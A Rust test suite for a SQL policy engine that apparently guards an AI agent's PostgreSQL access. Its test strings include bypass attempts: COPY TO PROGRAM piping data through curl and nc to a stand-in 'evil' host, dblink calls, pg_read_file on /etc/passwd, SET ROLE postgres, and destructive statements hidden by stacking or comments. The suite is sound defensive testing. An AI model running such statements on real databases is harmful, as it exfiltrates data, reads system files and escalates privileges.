//! The public bypass suite: statements that try to evade each rule must be denied, and
//! ordinary statements must pass (over-blocking is a failure too).

use sluice_policy::{analyze, judge, judge_with, Analysis, Policy, PolicySet, Verdict};

const DOC: &str = r#"
policies:
  # A broad agent: reads, writes, sessions, COPY through the client; no DDL/DCL/admin.
  - name: agent
    classes:
      allow: [read, write, transaction, session, copy]
      deny: [ddl, dcl, admin]
    tables:
      deny: [public.secrets, "audit.*", "\"Payroll\""]
    schemas:
      deny: [vault]
    functions:
      deny: ["pg_advisory_*", "internal.*"]
  # Read-only, on an allow list.
  - name: reader
    classes: {allow: [read, session]}
    tables: {allow: ["public.*"]}
  # Writes need a human.
  - name: reviewed
    classes: {allow: [read, transaction], review: [write]}
    review: {on: [require_where], wait: false}
  # Writes only to some tables.
  - name: narrow_writer
    classes: {allow: [read, write]}
    rules:
      - classes: [write]
        tables: {allow: [public.orders, public.order_items]}
"#;

fn policy(name: &str) -> Policy {
    let set = PolicySet::from_yaml(DOC, 1).expect("valid test policy");
    (**set.get(name).expect("policy exists")).clone()
}

fn verdict(p: &Policy, sql: &str) -> Verdict {
    judge(p, &analyze(sql))
}

#[track_caller]
fn denied(p: &Policy, sqls: &[&str]) {
    for sql in sqls {
        let v = verdict(p, sql);
        assert!(
            v.is_deny(),
            "expected deny under {}: {sql}\n  got {v:?}",
            p.name()
        );
    }
}

#[track_caller]
fn allowed(p: &Policy, sqls: &[&str]) {
    for sql in sqls {
        let v = verdict(p, sql);
        assert!(
            v.is_allow(),
            "expected allow under {}: {sql}\n  got {v:?}",
            p.name()
        );
    }
}

#[test]
fn ddl_class_cannot_be_disguised() {
    denied(
        &policy("agent"),
        &[
            "DROP TABLE t",
            "DrOp TaBlE t",
            "drop/**/table/**/t",
            "DROP -- comment\n TABLE t",
            "DROP TABLE \"Drop\"",
            "DROP TABLE public.t",
            "SELECT 1; DROP TABLE t",
            "SELECT 1;DROP TABLE t;",
            "BEGIN; DROP TABLE t; COMMIT",
            "CREATE TABLE x AS SELECT 1",
            "SELECT * INTO copy_of_t FROM t",
            "ALTER TABLE t DROP COLUMN a",
            "TRUNCATE t", // a write, but without WHERE
            "CREATE INDEX ON t (a)",
            "PREPARE p AS CREATE TABLE x (a int)",
            "GRANT ALL ON t TO public",
            "CREATE ROLE evil SUPERUSER",
            "ALTER ROLE bob SUPERUSER",
            "VACUUM t",
            "VACUUM (FULL) t",
            "CLUSTER t",
            "REINDEX TABLE t",
            "CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1",
        ],
    );
}

#[test]
fn denied_tables_by_any_spelling() {
    denied(
        &policy("agent"),
        &[
            "SELECT * FROM secrets",
            "SELECT * FROM SECRETS",
            "SELECT * FROM public.secrets",
            "SELECT * FROM \"public\".\"secrets\"",
            "SELECT * FROM \"Secrets\"",
            "SELECT * FROM mydb.public.secrets",
            "SELECT * FROM /* hi */ secrets",
            "SELECT * FROM t WHERE id IN (SELECT id FROM secrets)",
            "SELECT (SELECT max(x) FROM secrets)",
            "SELECT * FROM t WHERE EXISTS (SELECT 1 FROM secrets s WHERE s.id = t.id)",
            "WITH s AS (SELECT * FROM secrets) SELECT * FROM s",
            "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
            "SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) a, secrets",
            "SELECT * FROM t JOIN secrets USING (id)",
            "SELECT * FROM t, LATERAL (SELECT * FROM secrets WHERE secrets.id = t.id) l",
            "SELECT 1 UNION SELECT x FROM secrets",
            "SELECT * FROM t WHERE a = ANY (SELECT a FROM secrets)",
            "INSERT INTO t SELECT * FROM secrets",
            "INSERT INTO secrets VALUES (1)",
            "UPDATE secrets SET a = 1 WHERE id = 1",
            "UPDATE t SET a = (SELECT a FROM secrets LIMIT 1) WHERE id = 1",
            "DELETE FROM secrets WHERE id = 1",
            "DELETE FROM t USING secrets WHERE t.id = secrets.id",
            "MERGE INTO t USING secrets s ON t.id = s.id WHEN MATCHED THEN DELETE",
            "COPY secrets TO STDOUT",
            "COPY (SELECT * FROM secrets) TO STDOUT",
            "COPY secrets FROM STDIN",
            "DECLARE c CURSOR FOR SELECT * FROM secrets",
            "PREPARE p AS SELECT * FROM secrets",
            "EXPLAIN SELECT * FROM secrets",
            "SELECT * FROM audit.log",
            "SELECT * FROM AUDIT.\"Log\"",
            "SELECT * FROM \"Payroll\"",
            "SELECT * FROM payroll",
            "SELECT * FROM vault.keys",
            "SELECT * FROM \"VAULT\".keys",
        ],
    );
}

#[test]
fn allow_lists_do_not_leak_through_resolution() {
    let reader = policy("reader");
    allowed(
        &reader,
        &[
            "SELECT * FROM orders",
            "SELECT * FROM public.orders o JOIN public.customers c ON c.id = o.customer_id",
            "SELECT 1",
            "SELECT now()",
        ],
    );
    denied(
        &reader,
        &[
            "SELECT * FROM other.orders",
            "SELECT * FROM pg_authid",
            "SELECT * FROM pg_stat_activity",
            "SELECT * FROM pg_catalog.pg_class",
            "SELECT * FROM information_schema.tables",
            "SELECT * FROM \"Public\".orders",
            "SET search_path TO other",
            "SET search_path = other, public",
            "INSERT INTO orders VALUES (1)",
        ],
    );
    let nw = policy("narrow_writer");
    allowed(
        &nw,
        &[
            "INSERT INTO orders (id) VALUES (1)",
            "INSERT INTO public.order_items SELECT * FROM cart WHERE id = 1",
            "UPDATE orders SET state = 'paid' WHERE id = 1",
            "SELECT * FROM customers",
        ],
    );
    denied(
        &nw,
        &[
            "INSERT INTO customers VALUES (1)",
            "UPDATE customers SET name = 'x' WHERE id = 1",
            "WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM d",
            "COPY customers FROM STDIN",
        ],
    );
}

#[test]
fn dangerous_functions_anywhere() {
    denied(
        &policy("agent"),
        &[
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT PG_READ_FILE('/etc/passwd')",
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            "SELECT \"pg_read_file\"('/etc/passwd')",
            "SELECT pg_catalog . pg_read_file ('/etc/passwd')",
            "SELECT pg_read_binary_file('x')",
            "SELECT * FROM pg_ls_dir('.')",
            "SELECT * FROM pg_catalog.pg_ls_dir('.') AS f(name)",
            "SELECT lo_import('/etc/passwd')",
            "SELECT lo_export(1234, '/tmp/x')",
            "SELECT lo_get(1234)",
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
            "SELECT public.dblink_exec('drop table t')",
            "SELECT pg_terminate_backend(123)",
            "SELECT pg_cancel_backend(123)",
            "SELECT pg_reload_conf()",
            "SELECT set_config('role', 'postgres', false)",
            "SELECT set_config('search_path', 'vault', false)",
            "SELECT pg_ls_dir(100)",
            "SELECT query_to_xml('select * from secrets', true, false, '')",
            "SELECT table_to_xml('secrets', true, false, '')",
            "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)",
            // Nested: subquery, CTE, default, cast, lateral, window, FILTER, arguments, ORDER BY.
            "SELECT * FROM t WHERE a = (SELECT pg_read_file('x'))",
            "WITH x AS (SELECT pg_read_file('x') AS c) SELECT * FROM x",
            "INSERT INTO t (a) VALUES ((SELECT pg_read_file('x')))",
            "SELECT CAST(pg_read_file('x') AS int)",
            "SELECT pg_read_file('x')::int",
            "SELECT * FROM t, LATERAL (SELECT pg_read_file(t.path)) l",
            "SELECT * FROM t CROSS JOIN LATERAL pg_ls_dir(t.dir) d",
            "SELECT row_number() OVER (ORDER BY pg_ls_dir(1)) FROM t",
            "SELECT count(*) FILTER (WHERE pg_ls_dir(1) IS NOT NULL) FROM t",
            "SELECT upper(lower(pg_read_file('x')))",
            "SELECT * FROM t ORDER BY pg_ls_dir(1)",
            "SELECT * FROM t GROUP BY a HAVING count(pg_ls_dir(1)) > 0",
            "SELECT CASE WHEN a THEN pg_ls_dir(1) END FROM t",
            "UPDATE t SET a = pg_read_file('x') WHERE id = 1",
            "DELETE FROM t WHERE a = pg_read_file('x')",
            "PREPARE p AS SELECT pg_read_file($1)",
            "EXECUTE p(pg_read_file('x'))",
            "COPY (SELECT pg_read_file('x')) TO STDOUT",
            "EXPLAIN SELECT pg_ls_dir(10)",
            "DECLARE c CURSOR FOR SELECT pg_read_file('x')",
            "CALL pg_ls_dir(1)",
            // The policy's own list.
            "SELECT pg_advisory_lock(1)",
            "SELECT internal.rotate_keys()",
            "SELECT INTERNAL.rotate_keys()",
        ],
    );
    // Under a policy that allows DDL, a denied function in a DEFAULT is still denied.
    let set = PolicySet::from_yaml(
        "policies:\n  - name: ddl\n    classes: {allow: [ddl, read]}\n",
        1,
    )
    .unwrap();
    let ddl = set.get("ddl").unwrap();
    denied(
        ddl,
        &["CREATE TABLE x (a text DEFAULT pg_read_file('/etc/passwd'))"],
    );
    allowed(ddl, &["CREATE TABLE x (a int DEFAULT 0)"]);
}

#[test]
fn flags_deny_by_default() {
    denied(
        &policy("agent"),
        &[
            // COPY to and from the server.
            "COPY t TO PROGRAM 'curl -d @- evil'",
            "COPY (SELECT * FROM t) TO PROGRAM 'nc evil 80'",
            "copy t from program 'id'",
            "COPY t TO '/tmp/out'",
            "COPY t FROM '/etc/passwd'",
            // Role changes.
            "SET ROLE postgres",
            "set role postgres",
            "SET SESSION ROLE postgres",
            "SET LOCAL ROLE postgres",
            "SET role = 'postgres'",
            "SET SESSION AUTHORIZATION postgres",
            "RESET ROLE",
            "RESET SESSION AUTHORIZATION",
            "RESET ALL",
            "DISCARD ALL",
            "SELECT 1; SET ROLE postgres",
            // Data-modifying CTEs, EXPLAIN ANALYZE of writes, PREPARE of writes without WHERE.
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
            "WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT 1",
            "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i",
            "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1",
            "EXPLAIN (ANALYZE) DELETE FROM t WHERE id = 1",
            "EXPLAIN ANALYZE WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
            "PREPARE p AS DELETE FROM t",
            // UPDATE/DELETE without WHERE.
            "DELETE FROM t",
            "delete from T",
            "UPDATE t SET a = 1",
            "UPDATE t SET a = 1 WHERE true",
            "DELETE FROM t WHERE 1 = 1",
            "DELETE FROM t WHERE 'a' = 'a' OR false",
            "TRUNCATE t",
            // Code that runs later, DO blocks.
            "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
            "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ select 1 $$",
            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
            "DO $$ BEGIN PERFORM pg_ls_dir(1); END $$",
            "DO LANGUAGE plpgsql $$ BEGIN END $$",
            "do $$begin end$$; select 1",
            // Unparsed and unknown.
            "SELEC 1",
            "LOAD 'auto_explain'",
            "CHECKPOINT",
            "EXECUTE p",
        ],
    );
}

#[test]
fn flags_can_be_allowed() {
    let doc = r#"
policies:
  - name: loose
    classes: {allow: [read, write, session, copy, ddl]}
    require_where: false
    allow_copy_program: true
    allow_copy_file: true
    allow_set_role: true
    allow_data_modifying_cte: true
    allow_explain_analyze_write: true
    allow_do_blocks: true
    allow_code_definitions: true
    allow_unparsed: true
"#;
    let set = PolicySet::from_yaml(doc, 1).unwrap();
    let p = set.get("loose").unwrap();
    allowed(
        p,
        &[
            "COPY t TO PROGRAM 'gzip'",
            "COPY t FROM '/data/x.csv'",
            "SET ROLE app",
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            "EXPLAIN ANALYZE DELETE FROM t",
            "DO $$ BEGIN END $$",
            "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
            "VACUUM (FULL) t",
            "DELETE FROM t",
        ],
    );
    // Even so, the built-in functions and search_path stay denied.
    denied(p, &["SELECT pg_read_file('x')", "SET search_path = x"]);
}

#[test]
fn execute_is_judged_as_what_was_prepared() {
    let p = policy("agent");
    let prepared = match analyze("PREPARE q AS SELECT * FROM secrets") {
        Analysis::Statements(mut v) => v.remove(0),
        other => panic!("{other:?}"),
    };
    let fine = match analyze("PREPARE ok AS SELECT * FROM t WHERE id = $1") {
        Analysis::Statements(mut v) => v.remove(0),
        other => panic!("{other:?}"),
    };
    let resolve = |name: &str| match name {
        "q" => Some(&prepared),
        "ok" => Some(&fine),
        _ => None,
    };
    assert!(judge_with(&p, &analyze("EXECUTE q"), resolve).is_deny());
    assert!(judge_with(&p, &analyze("EXECUTE ok(1)"), resolve).is_allow());
    assert!(judge_with(&p, &analyze("EXECUTE OK(1)"), resolve).is_allow());
    assert!(judge_with(&p, &analyze("EXECUTE unknown"), resolve).is_deny());
    assert!(judge(&p, &analyze("EXECUTE ok(1)")).is_deny());
}

#[test]
fn ordinary_statements_pass() {
    let p = policy("agent");
    allowed(
        &p,
        &[
            // pgbench's TPC-B-like script, as sent over the simple protocol.
            "BEGIN;",
            "UPDATE pgbench_accounts SET abalance = abalance + -4321 WHERE aid = 45678;",
            "SELECT abalance FROM pgbench_accounts WHERE aid = 45678;",
            "UPDATE pgbench_tellers SET tbalance = tbalance + -4321 WHERE tid = 7;",
            "UPDATE pgbench_branches SET bbalance = bbalance + -4321 WHERE bid = 1;",
            "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (7, 1, 45678, -4321, CURRENT_TIMESTAMP);",
            "END;",
            "SELECT abalance FROM pgbench_accounts WHERE aid = $1",
            // Joins, CTEs, window functions, aggregates.
            "SELECT o.id, c.name, sum(i.qty * i.price) AS total FROM orders o JOIN customers c ON c.id = o.customer_id JOIN order_items i ON i.order_id = o.id WHERE o.created_at > now() - interval '7 days' GROUP BY o.id, c.name ORDER BY total DESC LIMIT 10",
            "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
            "WITH RECURSIVE tree AS (SELECT id, parent FROM nodes WHERE parent IS NULL UNION ALL SELECT n.id, n.parent FROM nodes n JOIN tree t ON n.parent = t.id) SELECT * FROM tree",
            "SELECT id, rank() OVER (PARTITION BY region ORDER BY revenue DESC) FROM sales",
            "SELECT region, count(*) FILTER (WHERE revenue > 100) FROM sales GROUP BY region",
            "SELECT * FROM generate_series(1, 10) g",
            "SELECT * FROM t, LATERAL unnest(t.tags) AS tag",
            "SELECT coalesce(a, 'x'), lower(b), length(c), to_char(d, 'YYYY') FROM t",
            "SELECT jsonb_build_object('a', 1)",
            "SELECT * FROM orders WHERE id IN (SELECT order_id FROM order_items WHERE sku = 'X')",
            "SELECT * FROM pg_stat_activity_snapshot", // a user table named pg_* in public
            // Text that merely looks dangerous.
            "SELECT 'drop table x'",
            "SELECT 'pg_read_file(''/etc/passwd'')'",
            "SELECT $$ DROP TABLE t; SET ROLE postgres $$",
            "SELECT drop_count, delete_flag, secrets_count FROM stats",
            "SELECT * FROM t -- DROP TABLE t",
            "SELECT /* ; DROP TABLE t; */ 1",
            "SELECT * FROM public.secrets_archive_index",
            "SELECT * FROM other_schema.secrets_log",
            "SELECT \"drop\" FROM t",
            // Writes with a WHERE, upserts, RETURNING.
            "INSERT INTO orders (id, state) VALUES (1, 'new') ON CONFLICT (id) DO UPDATE SET state = excluded.state RETURNING id",
            "UPDATE orders SET state = 'paid' WHERE id = 1 RETURNING *",
            "DELETE FROM cart WHERE created_at < now() - interval '30 days'",
            "DELETE FROM cart WHERE id = $1",
            // Sessions, transactions, cursors, notifications.
            "SET statement_timeout = 5000",
            "SET application_name = 'agent-7'",
            "SHOW TimeZone",
            "RESET statement_timeout",
            "BEGIN ISOLATION LEVEL REPEATABLE READ",
            "SAVEPOINT s1",
            "ROLLBACK TO SAVEPOINT s1",
            "COMMIT",
            "DECLARE c CURSOR FOR SELECT * FROM orders",
            "FETCH 100 FROM c",
            "CLOSE c",
            "LISTEN jobs",
            "NOTIFY jobs, 'done'",
            "COPY orders TO STDOUT WITH (FORMAT csv)",
            "COPY (SELECT id FROM orders) TO STDOUT",
            "COPY order_items FROM STDIN",
            "EXPLAIN SELECT * FROM orders",
            "EXPLAIN ANALYZE SELECT * FROM orders",
            "PREPARE p AS SELECT * FROM orders WHERE id = $1",
            "DEALLOCATE p",
            "",
        ],
    );
}

#[test]
fn review_verdicts() {
    let p = policy("reviewed");
    assert!(matches!(
        verdict(&p, "UPDATE t SET a = 1 WHERE id = 1"),
        Verdict::Review { ref rule, .. } if rule.as_str() == "reviewed/classes.review"
    ));
    // require_where goes to review too under this policy.
    assert!(matches!(
        verdict(&p, "DELETE FROM t"),
        Verdict::Review { .. }
    ));
    // A deny anywhere in the text wins over a review.
    assert!(verdict(&p, "UPDATE t SET a = 1 WHERE id = 1; DROP TABLE t").is_deny());
    assert!(verdict(&p, "UPDATE t SET a = 1 WHERE id = 1; SELECT 1")
        .rule()
        .is_some());
    allowed(&p, &["SELECT 1", "BEGIN; SELECT * FROM t; COMMIT"]);
}

#[test]
fn messages_name_the_rule() {
    let p = policy("agent");
    match verdict(&p, "SELECT * FROM public.secrets") {
        Verdict::Deny { rule, message } => {
            assert_eq!(rule.as_str(), "agent/tables.deny[0]");
            assert_eq!(
                message,
                "sluice: denied by rule \"agent/tables.deny[0]\": reading public.secrets is denied (table public.secrets)"
            );
        }
        other => panic!("{other:?}"),
    }
    match verdict(&p, "SELECT 1; DROP TABLE t") {
        Verdict::Deny { rule, message } => {
            assert_eq!(rule.as_str(), "agent/classes");
            assert!(message.contains("ddl statements (DROP TABLE)"), "{message}");
        }
        other => panic!("{other:?}"),
    }
    match verdict(&p, "SELECT pg_read_file('x')") {
        Verdict::Deny { rule, .. } => assert_eq!(rule.as_str(), "builtin/functions/pg_read_file"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn empty_or_missing_policy_denies_everything() {
    let none = Policy::deny_all();
    denied(&none, &["SELECT 1", "", "BEGIN"]);
    let set = PolicySet::from_yaml("", 1).unwrap();
    assert!(set.get("agent").is_none());
    // A policy with no classes allows nothing.
    let set = PolicySet::from_yaml("policies:\n  - name: empty\n", 1).unwrap();
    denied(
        set.get("empty").unwrap(),
        &["SELECT 1", "BEGIN", "SET a = 1", "COPY t TO STDOUT"],
    );
}

#[test]
fn explain_options() {
    let p = policy("agent");
    denied(
        &p,
        &[
            "EXPLAIN (ANALYZE true) DELETE FROM t WHERE id = 1",
            "EXPLAIN (analyze on, BUFFERS) UPDATE t SET a = 1 WHERE id = 1",
            "EXPLAIN (FORMAT JSON, ANALYZE) INSERT INTO t VALUES (1)",
        ],
    );
    allowed(
        &p,
        &[
            "EXPLAIN (ANALYZE false) DELETE FROM t WHERE id = 1",
            "EXPLAIN (ANALYZE off) DELETE FROM t WHERE id = 1",
            "EXPLAIN (COSTS off) SELECT * FROM t",
        ],
    );
}

#[test]
fn more_spellings() {
    let p = policy("agent");
    denied(
        &p,
        &[
            // sqlparser reads `ONLY secrets` as table `only` aliased `secrets`.
            "SELECT * FROM ONLY secrets",
            "SELECT * FROM ONLY (secrets)",
            "UPDATE ONLY secrets SET a = 1 WHERE id = 1",
            "DELETE FROM ONLY secrets WHERE id = 1",
            "SELECT * FROM t JOIN ONLY secrets s ON s.id = t.id",
            "SELECT * FROM public . secrets",
            "SELECT * FROM \"public\".\"SECRETS\"",
            "TABLE secrets",
            "SELECT * FROM (TABLE secrets) s",
            "SELECT t.* FROM (SELECT * FROM (SELECT * FROM secrets) a) t",
            "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = pg_read_file('x')",
            "INSERT INTO t VALUES (1) RETURNING pg_read_file('x')",
            "SELECT 1 FROM t WHERE a IN (VALUES ((SELECT pg_ls_dir(1))))",
            "select\tpg_ls_dir\n('/')",
            "SELECT 1;\n-- innocent\nDELETE FROM t",
        ],
    );
}
